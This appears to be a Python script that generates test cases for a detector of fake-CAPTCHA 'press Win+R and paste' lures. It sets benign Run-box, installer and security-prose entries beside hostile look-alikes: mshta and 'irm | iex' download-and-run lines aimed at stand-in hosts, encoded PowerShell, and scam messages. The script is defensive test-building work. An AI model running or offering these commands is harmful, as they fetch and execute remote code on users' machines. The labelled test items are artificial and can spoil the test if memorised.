"""Writes tests/data/cases/b16benign.jsonl: ordinary texts of the kinds BLIND-16's benign side
showed over-read (a person's own Run-box entries, ...), each technique cleared beside the
look-alikes that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b16benign.py

Written from general knowledge of Windows' and vendors' documented commands (no blind text
copied; the blind ids these techniques come from are listed in bench/blind/README.md, Blind-16,
"Tuned since written ... b16benign"). Invented hosts are reserved names (*.test, *.example,
*.invalid, documentation addresses), phone numbers are in 555 blocks. Each line is {id, text,
expect, technique, platform, source, target}.

Cleared here, by technique:

- `runbox-typed-browser-window`: a browser typed into the Run box with the switches that only
  choose its window or one of its own profiles, perhaps on a web page (`msedge --inprivate
  https://intranet.corp.example`, `chrome --profile-directory="Profile 2"`): the address alone
  opens the same page from any source. Typed only (resources/runbox.yaml `tools`): a page, mail
  or chat writing it for the Run box is a command there. Never --app (a window without an address
  bar), --headless, --remote-debugging-port, --load-extension, --user-data-dir, a file: address, a
  share, another scheme, or a profile named by a path.
- `runbox-typed-editor-window`: VS Code opening one folder of this computer in a new or the last
  window (`code --new-window C:\\dev\\site`); never an extension, a tunnel, a second folder of
  extensions, or a share.
- `runbox-typed-explorer-folder`: Explorer opening a folder of this computer (`explorer
  /e,C:\\Users\\Public\\Documents`, `explorer D:\\Photos`): a folder whose last name has no dot,
  so nothing a file's type could start; never a file, a share, WebDAV, or a variable that can
  name another computer.
- `runbox-typed-shutdown-message`: a restart or shutdown of this computer with the message its
  dialog shows (`shutdown /r /t 60 /c "Updates installed"`); a message with a number to call or a
  site, another computer (/m), or another command on the line stays a command.
- `runbox-typed-folder-listing`: a console kept open in a folder of this computer on the list of
  that folder's files (`cmd /k "cd /d C:\\src && dir"`); never `dir /s`, a share, `dir` first, or a
  program started after it.
- `runbox-control-library-page`: `control keymgr.dll` (Stored User Names and Passwords) and a
  Control Panel item's page by the one setting it reads (`/page ?SelectedVault=CredmanVault`):
  Windows' own pages from any source, like `rundll32 keymgr.dll,KRShowKeyMgr`; a library by any
  other name or by a path, or a page naming a path, stays a command.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b16benign.jsonl")
RUN = "run_dialog"
WIKI = "https://wiki.helpdesk-notes.example/windows/run-box"
LURE = "https://verify-human.check-session.test/captcha"

# -- the Run box: a person's own entries, typed ---------------------------------------------------

TYPED = {
    "runbox-typed-browser-window": [
        "msedge --inprivate https://intranet.corp.example",
        "msedge --inprivate https://portal.corp.example/timesheets",
        "msedge -inprivate https://hr.corp.example:8443/leave",
        "msedge --new-window https://status.corp.example",
        "msedge --profile-directory=Default https://mail.corp.example",
        'chrome --profile-directory="Profile 2"',
        'chrome --profile-directory="Profile 1" https://calendar.corp.example',
        "chrome --incognito https://www.example.com/pricing",
        "chrome --new-window https://docs.corp.example/handbook",
        "chrome.exe --incognito",
        "firefox -private-window https://wiki.corp.example",
        "firefox -new-window https://tickets.corp.example/queue/7",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Work',
    ],
    "runbox-typed-editor-window": [
        "code --new-window C:\\dev\\website",
        "code -n C:\\dev\\api-server",
        "code --reuse-window D:\\src\\invoice-tool",
        "code -r %USERPROFILE%\\source\\repos\\notes",
        "code-insiders --new-window C:\\work\\prototype",
        'code --new-window "C:\\Users\\me\\Documents\\Team Notes"',
        "code.exe -n C:\\projects\\site",
        "code --reuse-window %USERPROFILE%\\.ssh\\config",
        "code -n D:\\data\\reports",
        "code-insiders -r C:\\src\\lib",
    ],
    "runbox-typed-editor-more": [
        "notepad++ C:\\logs\\app.log",
        "notepad++ %USERPROFILE%\\.gitconfig",
        'notepad++ "C:\\Users\\me\\Documents\\to do.txt"',
        "notepad++.exe D:\\notes\\meeting.md",
        "code -n",
        "code --new-window",
        "code-insiders -r",
        "firefox -P work",
        'firefox -P "Dev Profile" -private-window',
        "firefox -P -private-window",
        "explorer /n,C:\\Users\\Public",
        "explorer /n,%USERPROFILE%\\Documents",
    ],
    "runbox-typed-console-window": [
        "powershell -NoExit",
        "powershell -NoProfile",
        "pwsh -NoLogo -NoExit",
        "powershell.exe -NoLogo",
        "pwsh -NoProfile -NoExit",
        'cmd /k "cd /d D:\\work && code ."',
        "cmd /k cd /d C:\\src\\site && code .",
        'wt new-tab -p "Ubuntu"',
        "wt -w 0 nt -d C:\\src",
        "wt nt -p PowerShell",
        "runas /user:CORP\\admin cmd",
        'runas /user:administrator "mmc compmgmt.msc"',
        "runas /noprofile /user:admin@corp.example powershell",
        'runas /user:CORP\\admin /netonly "mmc dsa.msc"',
        "chrome --guest",
        "msedge --guest",
        "firefox --private-window https://intranet.corp.example",
        "firefox --new-window https://status.corp.example",
        '"C:\\Program Files\\Notepad++\\notepad++.exe" C:\\logs\\a.log',
    ],
    "runbox-typed-explorer-folder": [
        "explorer.exe /e,C:\\Users\\Public\\Documents",
        "explorer /e,D:\\Photos",
        "explorer /e,%USERPROFILE%\\Downloads",
        "explorer D:\\Projects",
        "explorer %APPDATA%\\Microsoft\\Signatures",
        'explorer.exe "C:\\Users\\Public\\Shared Pictures"',
        "explorer /e,%LOCALAPPDATA%\\Temp",
        "explorer C:\\Windows\\Fonts",
        'explorer /e,"D:\\Team Share\\Quarterly"',
        "explorer.exe %PROGRAMDATA%",
    ],
    "runbox-typed-shutdown-message": [
        'shutdown /r /t 60 /c "Updates installed, restarting in 1 minute"',
        'shutdown /s /t 300 /c "Shutting down for the weekend"',
        'shutdown /r /t 0 /c "Driver update"',
        'shutdown -r -t 120 -c "Restarting to finish setup"',
        'shutdown /r /c "Planned restart (maintenance window)"',
        'shutdown /s /t 3600 /c "Office closes at 6 - save your work!"',
        'shutdown /g /t 30 /c "Restarting, apps will reopen"',
        'shutdown /h /c "Hibernating"',
        'shutdown -s -t 900 -c "Power maintenance tonight"',
        'shutdown /r /t 15 /c "Rebooting after the BIOS update"',
    ],
    "runbox-typed-folder-listing": [
        'cmd /k "cd /d C:\\Projects\\invoice-tool && dir"',
        "cmd /k cd /d C:\\src && dir",
        'cmd /k "cd /d D:\\logs && dir /od"',
        'cmd /k "cd /d %USERPROFILE%\\Downloads && dir /o-d"',
        "cmd /k pushd C:\\build\\out && dir /b",
        'cmd /k "cd /d C:\\src\\site && git status && dir /w"',
        "cmd /k cd C:\\temp & dir",
        'cmd /k "cd /d %USERPROFILE%\\Desktop && dir /a"',
        'cmd /k "chdir /d D:\\exports && dir /os"',
        'cmd /k "cd /d C:\\data && dir /p"',
    ],
}

# Look-alikes of the typed entries: each must stay a command, typed (flagged) and written by a
# page (blocked)
TYPED_LOOKALIKES = [
    "msedge --app=https://login.corp-verify.test",
    "msedge --inprivate file://files.corp-verify.test/share/fix.hta",
    "msedge --inprivate https://portal.corp.example --load-extension=C:\\Users\\Public\\ext",
    "chrome --headless --remote-debugging-port=9222 https://portal.corp.example",
    "chrome --profile-directory=..\\..\\Users\\Public\\p",
    "chrome --user-data-dir=C:\\Users\\Public\\prof https://mail.corp.example",
    "chrome https://user@portal.corp-verify.test",
    "chrome --incognito javascript:fetch('//x.test')",
    "msedge --inprivate \\\\files.corp-verify.test\\share\\fix.html",
    "firefox -private-window ms-msdt:/id PCWDiagnostic",
    "msedge --inprivate https://cdn.corp-verify.test/check.hta",
    "chrome --new-window https://cdn.corp-verify.test/setup.exe?session=1",
    "firefox -new-window https://cdn.corp-verify.test/fix.zip",
    "msedge --inprivate https://captcha.portal-check.test/",
    "chrome --new-window https://human-check.portal.test/verify",
    "code --new-window \\\\fs.corp-verify.test\\src",
    "code --install-extension C:\\Users\\Public\\helper.vsix",
    "code --new-window C:\\dev\\site --extensions-dir C:\\Users\\Public\\ext",
    "code --new-window --reuse-window C:\\dev\\site",
    "code --new-window https://repo.corp-verify.test/site",
    "explorer /e,C:\\Users\\Public\\invoice.lnk",
    "cmd /k",
    "powershell -NoExit -ExecutionPolicy Bypass",
    "powershell -NoProfile -NoProfile",
    "pwsh -NoExit -EncodedCommand SQBFAFgA",
    'cmd /k "cd /d C:\\src && code C:\\Users\\Public\\x"',
    'cmd /k "code . && cd /d C:\\src"',
    "wt new-tab powershell -c iwr https://files.corp-verify.test/a | iex",
    "runas /user:administrator /savecred cmd",
    "runas /user:administrator C:\\Users\\Public\\fix.exe",
    'runas /user:administrator "cmd /c start fix.exe"',
    "runas /user:administrator \\\\files.corp-verify.test\\x\\a.exe",
    "runas /user:administrator https://files.corp-verify.test/a.hta",
    '"C:\\Program Files\\Notepad++\\notepad++.exe" \\\\files.corp-verify.test\\x\\a.log',
    "chrome --guest --load-extension=C:\\Users\\Public\\ext",
    "notepad++ \\\\files.corp-verify.test\\x\\a.txt",
    "notepad++ -pluginsDir C:\\Users\\Public\\p",
    "firefox -P ..\\..\\Users\\Public\\p",
    "firefox -P work -P",
    "code -n -r",
    "explorer /n,C:\\Users\\Public\\x.hta",
    "notepad++ https://files.corp-verify.test/a.txt",
    "explorer C:\\Users\\Public\\fix.hta",
    "explorer \\\\files.corp-verify.test\\share",
    "explorer /root,C:\\Users\\Public",
    "explorer /e,%LOGONSERVER%\\netlogon",
    "explorer C:\\Users\\Public\\Documents\\scan.pdf.exe",
    "explorer /e,C:\\Users\\Public\\Documents C:\\x.exe",
    'shutdown /s /t 600 /c "Virus found call 555 0100"',
    'shutdown /s /t 600 /c "Call support at help-desk.corp-verify.test now"',
    'shutdown /m \\\\ws-0192 /r /c "Restart"',
    'shutdown /r /t 60 /c "Updates" /f',
    'shutdown /r /c "x" /c "y"',
    'cmd /k "cd /d C:\\Users\\Public && dir /s"',
    'cmd /k "cd /d C:\\src && dir \\\\files.corp-verify.test\\share"',
    "cmd /k dir",
    'cmd /k "dir && cd /d C:\\src"',
    'cmd /k "cd /d C:\\src && dir && start fix.exe"',
    'cmd /c "cd /d C:\\src && dir"',
    'cmd /k "cd /d \\\\files.corp-verify.test\\share && dir"',
    'cmd /k "cd /d C:\\src && dir | clip"',
]

# Windows' own pages by a name it looks up: from any source, a wiki's or a lure's
CONTROL_PAGES = [
    "control keymgr.dll",
    "control.exe keymgr.dll",
    "CONTROL KEYMGR.DLL",
    "%windir%\\system32\\control.exe keymgr.dll",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=CredmanVault",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=WebVault",
    "control /name Microsoft.Personalization /page pageWallpaper",
    "control.exe /name Microsoft.CredentialManager /page ?SelectedVault=CredmanVault",
    "control /name Microsoft.System /page ?Tab=Advanced",
    "C:\\Windows\\System32\\control.exe keymgr.dll",
]
CONTROL_LOOKALIKES = [
    "control C:\\Users\\Public\\keymgr.dll",
    "control keymgr.dll,Start",
    "control helper.dll",
    "control keymgr.dll extra",
    "control %TEMP%\\keymgr.dll",
    "control \\\\files.corp-verify.test\\x\\keymgr.dll",
    "control /name Microsoft.CredentialManager /page ?x=C:\\Users\\Public\\p",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=\\\\files.test\\x",
    "control /name Microsoft.CredentialManager /page https://portal.corp-verify.test",
    "control keymgr.dll & start fix.exe",
]


# Since b18benign's weighing (2026-12-07 afternoon, runbox.yaml `opens`): what a program
# name, a path or an address would open anyway, given to the program that opens it, is
# taken like one of them whoever wrote it, a page or a mail included.
# Here: a browser on a web page in a private window, Explorer opening a folder here.
OPENS = frozenset({"runbox-typed-browser-window", "runbox-typed-explorer-folder"})


def run_box(book: Book) -> None:
    for technique, texts in TYPED.items():
        for text in texts:
            book.add(technique, text, "not_flagged", "windows", RUN)
        # written by a page for the Run box, the same entries are commands there (issue 9)
        expect = "not_flagged" if technique in OPENS else "malicious"
        for text in texts[:3]:
            book.add(technique + "-lookalike", text, expect, "windows", RUN, LURE)
    for text in TYPED_LOOKALIKES:
        book.add("runbox-typed-lookalike", text, "flagged", "windows", RUN)
        book.add("runbox-typed-lookalike", text, "malicious", "windows", RUN, WIKI)
    for i, text in enumerate(CONTROL_PAGES):
        book.add("runbox-control-library-page", text, "not_flagged", "windows", RUN,
                 (None, WIKI, LURE)[i % 3])  # fmt: skip
    for text in CONTROL_LOOKALIKES:
        book.add("runbox-control-library-page-lookalike", text, "flagged", "windows", RUN)
        book.add("runbox-control-library-page-lookalike", text, "malicious", "windows", RUN, LURE)


# -- security texts: warnings, reports and notes that quote a lure's steps or command ------------

UNKNOWN = "unknown"
TERMINAL = "terminal"
CERT = "https://www.cert-advisories.example/alerts/2026-41"
REPORT = "https://research.threat-notes.example/2026/fake-check-wave"
SOC = "https://intel.soc-team.example/weekly/2026-w49"
LURE_PAGE = "https://verify.check-session.test/"

# an awareness note in another language that names the paste steps and calls the pages fake (its
# word for fake or scam, as "fake" clears PG-LURE-PASTE-INSTRUCTIONS in English)
WARNINGS_INTL = [
    "Aviso: páginas falsas de verificación piden pulsar Win+R y pegar un comando. Ningún sitio "
    "legítimo lo solicita.",
    "Alerta: sites falsos pedem para pressionar Win+R e colar um comando. Nenhum CAPTCHA "
    "verdadeiro pede isso.",
    "Attention : de fausses pages de vérification demandent d'appuyer sur Win+R et de coller une "
    "commande. Aucun site légitime ne demande cela.",
    "Achtung: gefälschte Prüfseiten verlangen, Win+R zu drücken und einen Befehl einfügen. Keine "
    "echte Website verlangt das.",
    "Attenzione: pagine di verifica false chiedono di premere Win+R e incollare un comando. "
    "Nessun sito legittimo lo chiede.",
    "Uwaga: fałszywe strony weryfikacji każą nacisnąć Win+R i wkleić polecenie. Żadna prawdziwa "
    "strona tego nie wymaga.",
    "Uyarı: sahte doğrulama sayfaları Win+R tuşlarına basıp bir komut yapıştırmanızı istiyor. "
    "Hiçbir gerçek site bunu istemez.",
    "Waarschuwing: nep-verificatiepagina's vragen om Win+R in te drukken en een opdracht te "
    "plakken. Geen echte website vraagt dat.",
    "Consejo: si una web le pide pulsar Win+R y pegar algo, es falsa. Ningún CAPTCHA legítimo "
    "funciona así.",
    "Dica: verificações falsas pedem para abrir o Executar com Win+R e colar texto; feche a "
    "página.",
    "Los CAPTCHA falsos copian un comando y piden pegarlo con Ctrl+V tras pulsar Win+R.",
    "Golpe comum: a página pede Win+R, Ctrl+V e Enter. Não cole nada.",
]
# the same steps from a check page, with no such word (and the concession a lure makes), and
# with the command: they keep their weight
WARNINGS_INTL_LOOKALIKES = [
    ("Verificación: pulse Win+R, pegue el comando y pulse Intro.", UNKNOWN, "flagged"),
    ("Verificação: pressione Win+R, cole o comando e pressione Enter.", UNKNOWN, "flagged"),
    ("Vérification : appuyez sur Win+R, collez la commande et appuyez sur Entrée.", UNKNOWN,
     "flagged"),
    ("Per verificare: premi Win+R, incolla il comando e premi Invio.", UNKNOWN, "flagged"),
    ("Weryfikacja: naciśnij Win+R, wklej polecenie i naciśnij Enter.", UNKNOWN, "flagged"),
    ("Ningún sitio legítimo le pide esto, pero pulse Win+R y pegue el código.", UNKNOWN,
     "flagged"),
    ("Nenhum site verdadeiro pede isso, mas pressione Win+R e cole o código.", UNKNOWN,
     "flagged"),
    ("Esto no es falso. Pulse Win+R, pegue y pulse Intro:\nmshta https://cdn.verify-step.invalid/c",
     "run_dialog", "malicious"),
    ("Não é golpe: pressione Win+R e cole o código para verificar.\n"
     "mshta https://cdn.verify-step.invalid/c", UNKNOWN, "malicious"),
    ("Páginas falsas? No. Pulse Win+R y pegue:\n"
     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', UNKNOWN, "malicious"),
]  # fmt: skip

# a report telling what a lure page does to its visitors, in the third person
REPORTS = [
    "The page shows a reCAPTCHA box; clicking it copies a PowerShell command to the clipboard "
    "and shows three steps: Win+R, Ctrl+V, Enter.",
    "Visitors are told to press Win+R, paste with Ctrl+V and press Enter; the pasted command "
    "fetches a loader.",
    "The overlay instructs the user to press Win+R and paste what the button copied.",
    "After the click, users are asked to open the Run dialog with Win+R and paste the clipboard.",
    "The lure tells visitors to press Win+X, open Terminal and paste the command.",
    "The check page displays four steps: Win+R, Ctrl+V, Enter, then wait.",
    "Victims are instructed to press Win+R and paste a command that the page placed on the "
    "clipboard.",
    "The kit then lists three steps for the visitor (Win+R, Ctrl+V, Enter) under a spinner.",
    "In this wave the popup asks its visitors to paste into the Run box after pressing Win+R.",
    "The second stage prompts users to press Win+R and paste; the copied line runs mshta.",
    "On macOS the page tells users to press Command+Space, open Terminal and paste.",
    "The widget presents 3 steps: Win+R, then Ctrl+V, then Enter.",
]
REPORT_LOOKALIKES = [
    ("Users are asked to press Win+R and paste this:\nmshta https://cdn.verify-step.invalid/c",
     UNKNOWN, "malicious"),
    ("The page shows three steps: Win+R, Ctrl+V, Enter\n"
     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', "run_dialog", "malicious"),
    ("Press Win+R, paste with Ctrl+V and press Enter:\n"
     'powershell -w h -c "irm https://cdn.verify-step.invalid/c | iex"', UNKNOWN, "malicious"),
    ("1. Press Win + R\n2. Press Ctrl + V\n3. Press Enter\nmshta https://cdn.verify-step.invalid/v",
     UNKNOWN, "malicious"),
    ("Visitors are told to paste it: curl -fsSL https://cdn.verify-step.invalid/i | bash",
     TERMINAL, "flagged"),
    ("Verify you are human. The page shows three steps: Win+R, Ctrl+V, Enter.\n"
     "mshta https://cdn.verify-step.invalid/h", UNKNOWN, "malicious"),
    ("Users are told to press Win+R and paste:\n"
     "cmd /c start /min powershell -w h -c iwr https://cdn.verify-step.invalid/a -OutFile $env:TEMP\\a.exe",
     "run_dialog", "malicious"),
    ("Press Command+Space, open Terminal and paste: curl -fsSL https://cdn.verify-step.invalid/i | bash",
     TERMINAL, "malicious"),
    ("To finish, the page shows 3 steps:\n"
     "mshta https://cdn.verify-step.invalid/c # I am not a robot - ID 4471", "run_dialog",
     "malicious"),
    ("Visitors are asked to paste this in Run:\n"
     "conhost --headless powershell -c irm cdn.verify-step.invalid/r | iex", "run_dialog",
     "malicious"),
]  # fmt: skip

# a note that names a download-and-run pipe in quotes inside a sentence, with no address
QUOTED_PIPES = [
    "Detection tuning: we stopped alerting on 'curl | sh' from developer workstations when the "
    "URL matches the project's own domain; alerts on unknown hosts remain.",
    'We no longer page on "irm | iex" from admin jump hosts; the rule still fires on every other '
    "host.",
    "The kit serves a 'curl | bash' line to macOS visitors.",
    "Reviewers should flag any 'wget | sh' step in a pull request and ask for a pinned checksum "
    "instead.",
    "Our policy bans “curl | sudo bash” in runbooks; use the package repository.",
    "Hunting note: a ‘curl | zsh’ spawned by Terminal right after a browser download is worth a "
    "look.",
    "The old README still says 'curl | sh' but the new one pins a release.",
    'Avoid "iwr | iex" patterns in onboarding docs; ship a signed MSI.',
    "An alert on 'curl | bash' fired 14 times last week, all from the CI runners.",
    "Why does everyone hate 'curl | sh'? Because you cannot review what runs.",
    "Training slide: never paste 'irm | iex' from a chat message.",
]
QUOTED_PIPE_LOOKALIKES = [
    ("Detection tuning: we stopped alerting on 'curl https://get.check-session.test/a | sh' from "
     "developer workstations.", UNKNOWN, "flagged"),
    ("curl -fsSL https://get.check-session.test/a | sh", TERMINAL, "flagged"),
    ("Run this: 'curl -fsSL https://get.check-session.test/a | sh'", UNKNOWN, "flagged"),
    ("Paste 'curl get.check-session.test | sh' in Terminal.", UNKNOWN, "flagged"),
    ("echo 'curl | sh' ; curl -s https://get.check-session.test/x | bash", TERMINAL, "flagged"),
    ("Our note on 'curl | sh' is below:\ncurl -fsSL https://get.check-session.test/a | bash",
     UNKNOWN, "flagged"),
    ("We stopped alerting on 'curl | sh $HOME/.x' from workstations.", UNKNOWN, "flagged"),
    ('Install: "irm https://get.check-session.test/i | iex"', UNKNOWN, "flagged"),
    ("The fix for 'wget | sh' is: wget -qO- https://get.check-session.test/f | sh", UNKNOWN,
     "flagged"),
    ("Note: 'curl | sh' below.\nirm https://get.check-session.test/w | iex", TERMINAL,
     "flagged"),
]  # fmt: skip


def security_texts(book: Book) -> None:
    for i, text in enumerate(WARNINGS_INTL):
        book.add("prose-paste-warning-intl", text, "not_flagged", "any", UNKNOWN,
                 (CERT, None)[i % 2])  # fmt: skip
    for text, target, expect in WARNINGS_INTL_LOOKALIKES:
        book.add("prose-paste-warning-intl-lookalike", text, expect, "windows", target, LURE_PAGE)
    for i, text in enumerate(REPORTS):
        book.add("prose-report-narration", text, "not_flagged", "any", UNKNOWN,
                 (REPORT, None)[i % 2])  # fmt: skip
    for text, target, expect in REPORT_LOOKALIKES:
        book.add("prose-report-narration-lookalike", text, expect, "any", target, LURE_PAGE)
    for i, text in enumerate(QUOTED_PIPES):
        book.add("prose-quoted-pipe", text, "not_flagged", "any", UNKNOWN, (SOC, None)[i % 2])
    for text, target, expect in QUOTED_PIPE_LOOKALIKES:
        book.add("prose-quoted-pipe-lookalike", text, expect, "any", target, None)


# -- official installers beside what runs nothing, run quietly, or from Visual Studio's links ----

README = "https://github.com/quillmere/shop/blob/main/docs/install.md"
WIKI_OPS = "https://wiki.ops-team.example/build-hosts/tooling"
DOCKERFILE = "https://github.com/quillmere/shop/blob/main/Dockerfile.win"
OTHER_HOST = "dl.northwind-tools.example"

# an official installer, and an address nothing downloads from: this computer's own (a dev
# server to open afterwards) or one only a sentence names
BESIDE_UNFETCHED = [
    "## Install\n\n```sh\ncurl -fsSL https://get.docker.com | sh\ndocker compose up -d\n```\n\n"
    "Then open http://localhost:8000.",
    "curl -fsSL https://get.docker.com | sh\nThen open http://127.0.0.1:3000 in your browser.",
    "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv run app.py\n"
    "The app listens on http://localhost:5000/docs",
    "See https://docs.docker.com/engine/install/ for other ways.\n"
    "curl -fsSL https://get.docker.com | sh",
    "curl -fsSL https://bun.sh/install | bash\nbun dev\nVisit http://localhost:3000 to see it.",
    "Docs: https://docs.astral.sh/uv/getting-started/installation/ explain the options.\n"
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
    "curl -fsSL https://deno.land/install.sh | sh\ndeno task start\n"
    "Open http://[::1]:8000/ afterwards.",
    "Install rustup (more at https://rust-lang.org/tools/install for Windows).\n"
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    "curl -fsSL https://ollama.com/install.sh | sh\nollama serve\n"
    "The API answers on http://localhost:11434/api/tags",
    "irm https://get.scoop.sh | iex\nscoop install nodejs\nThen browse to http://localhost:4200.",
    "Read the Nix manual (https://nix.dev/manual/nix/latest/installation/) first.\n"
    "sh <(curl -L https://nixos.org/nix/install) --daemon",
]
# ...the other address fetched (a second download, a sentence that is a command), or a
# stranger's script run quietly: each keeps its weight
BESIDE_UNFETCHED_LOOKALIKES = [
    f"See https://{OTHER_HOST}/x for details.\ncurl -fsSL https://get.docker.com | sh\n"
    f"curl -s {OTHER_HOST}/y | sh",
    f"curl -fsSL https://get.docker.com | sh\nSee https://{OTHER_HOST}/x | sh",
    f"curl -fsSL https://get.docker.com | sh\nThen wget https://{OTHER_HOST}/x -O- | sh",
    f"curl -fsSL https://get.docker.com | sh\nSee: curl -s https://{OTHER_HOST}/y | sh",
    f"curl -fsSL https://get.docker.com | sh\ncurl -s https://{OTHER_HOST}/y | sh",
    f"Open http://localhost:8000 after this:\ncurl -fsSL https://{OTHER_HOST}/i.sh | sh",
    f"curl -fsSL https://get.docker.com | sh && curl -s https://{OTHER_HOST}/p | bash",
    f"Docs: https://{OTHER_HOST}/docs\ncurl -fsSL https://{OTHER_HOST}/install.sh | bash",
    f"curl -fsSL https://{OTHER_HOST}/x.sh | sh\nThen open http://localhost:8000.",
    f"curl -fsSL https://astral.sh/uv/install.sh | sh; bash <(curl -s https://{OTHER_HOST}/z)",
]

# an official installer run quietly: a cron job, a provisioning step, a CI image
QUIET_INSTALLERS = [
    "# weekly refresh of the uv binary on build hosts\n"
    "0 6 * * 1 curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1",
    "curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1",
    "curl -fsSL https://get.docker.com | sh > /dev/null 2>&1",
    "curl -fsSL https://bun.sh/install | bash &> /dev/null",
    "@reboot curl -fsSL https://get.docker.com | sudo sh >/dev/null 2>&1",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y >/dev/null 2>&1",
    "curl -fsSL https://ollama.com/install.sh | sh 2>&1 >/dev/null",
    "30 2 * * * curl -fsSL https://get.pnpm.io/install.sh | sh - > /dev/null 2>&1",
    "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash >/dev/null 2>&1",
    "irm https://get.scoop.sh | iex | Out-Null",
    "curl -fsSL https://starship.rs/install.sh | sh -s -- -y > /dev/null 2>&1",
]
QUIET_LOOKALIKES = [
    f"curl -fsSL https://{OTHER_HOST}/y | sh >/dev/null 2>&1",
    f"0 6 * * 1 curl -fsSL https://{OTHER_HOST}/u.sh | sh >/dev/null 2>&1",
    f"curl -LsSf https://astral.sh/uv/install.sh | sh >/dev/null 2>&1; "
    f"curl -s https://{OTHER_HOST}/y | sh >/dev/null 2>&1",
    f"curl -fsSL https://get.docker.com.{OTHER_HOST}/ | sh >/dev/null 2>&1",
    f"curl -fsSL https://sh.rustup.rs@{OTHER_HOST}/r | sh >/dev/null 2>&1",
    f"irm https://{OTHER_HOST}/s.ps1 | iex | Out-Null",
    "curl -fsSL https://get.docker.com | sh >/dev/null 2>&1; clear",
    "curl -fsSL https://raw.githubusercontent.com/quillmere/tools/main/i.sh | sh >/dev/null 2>&1",
    f"@reboot curl -fsSL http://{OTHER_HOST}/b | sh >/dev/null 2>&1",
    f"curl -fsSL https://{OTHER_HOST}/y | nohup sh >/dev/null 2>&1 &",
]

# Visual Studio's own short links for the Visual C++ Redistributable and the Build Tools
VS_LINKS = [
    "FROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
    'SHELL ["powershell", "-Command"]\n'
    "RUN Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
    "vc_redist.x64.exe; Start-Process .\\vc_redist.x64.exe -ArgumentList '/install','/quiet' -Wait",
    "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
    "$env:TEMP\\vc_redist.x64.exe\nStart-Process $env:TEMP\\vc_redist.x64.exe -ArgumentList "
    "'/install','/quiet','/norestart' -Wait",
    "iwr https://aka.ms/vs/17/release/vc_redist.x86.exe -OutFile vc_redist.x86.exe\n"
    ".\\vc_redist.x86.exe /install /passive /norestart",
    "curl -L -o vs_buildtools.exe https://aka.ms/vs/17/release/vs_buildtools.exe\n"
    "vs_buildtools.exe --quiet --wait --norestart --add Microsoft.VisualStudio.Workload.VCTools",
    "Invoke-WebRequest https://aka.ms/vs/17/release/vs_buildtools.exe -OutFile vs_buildtools.exe; "
    "Start-Process -Wait .\\vs_buildtools.exe -ArgumentList '--quiet','--norestart'",
    "RUN curl -fSLo vs_BuildTools.exe https://aka.ms/vs/17/release/vs_buildtools.exe "
    "&& start /w vs_BuildTools.exe --quiet --wait --norestart --nocache",
    "Invoke-WebRequest -Uri https://aka.ms/vs/16/release/vc_redist.x64.exe -OutFile "
    "C:\\Temp\\vc_redist.x64.exe; C:\\Temp\\vc_redist.x64.exe /quiet /norestart",
    "$url = 'https://aka.ms/vs/17/release/vc_redist.arm64.exe'\n"
    "Invoke-WebRequest $url -OutFile vc_redist.arm64.exe\nStart-Process .\\vc_redist.arm64.exe "
    "'/install /quiet' -Wait",
    "bitsadmin /transfer vcredist https://aka.ms/vs/17/release/vc_redist.x64.exe "
    "%TEMP%\\vc_redist.x64.exe && %TEMP%\\vc_redist.x64.exe /quiet /norestart",
    "Start-BitsTransfer https://aka.ms/vs/17/release/vc_redist.x64.exe "
    "$env:TEMP\\vc.exe; & $env:TEMP\\vc.exe /install /quiet",
]
VS_LINK_LOOKALIKES = [
    ("Invoke-WebRequest -Uri https://aka.ms/vsbuildtools -OutFile $env:TEMP\\x.exe\n"
     "Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
    ("Invoke-WebRequest -Uri https://aka.ms/vs.example.test/x.exe -OutFile $env:TEMP\\x.exe\n"
     "Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
    ("Invoke-WebRequest -Uri https://aka.ms.example.test/vs/17/release/vc_redist.x64.exe "
     "-OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
    ('powershell -w h -c "iwr https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile '
     '$env:TEMP\\v.exe; start $env:TEMP\\v.exe"', RUN, LURE_PAGE, "malicious"),
    ("Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
     "$env:TEMP\\v.exe; Start-Process $env:TEMP\\v.exe; iwr https://dl.northwind-tools.example/a.exe "
     "-OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe", TERMINAL, LURE_PAGE, "malicious"),
    ("Invoke-WebRequest -Uri https://vs.aka.ms.example.test/17/release/vc_redist.x64.exe "
     "-OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe", TERMINAL, None, "flagged"),
    ("iwr https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile $env:TEMP\\v.exe; "
     "start $env:TEMP\\v.exe", RUN, LURE_PAGE, "malicious"),
    ("Invoke-WebRequest https://aka.ms/vs/../x/helper.exe -OutFile $env:TEMP\\h.exe; "
     "Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
    ("Invoke-WebRequest https://aka.ms/vsfix/helper.exe -OutFile $env:TEMP\\h.exe; "
     "Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
    ("Invoke-WebRequest http://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile "
